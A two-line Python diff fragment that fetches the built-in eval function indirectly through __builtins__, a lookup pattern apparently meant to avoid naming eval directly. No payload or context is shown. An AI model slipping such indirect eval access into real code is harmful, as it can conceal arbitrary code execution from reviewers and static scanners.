@@ -1,0 +1,2 @@
+b=__builtins__
+X=(b if isinstance(b,dict) else vars(b))["eval"]
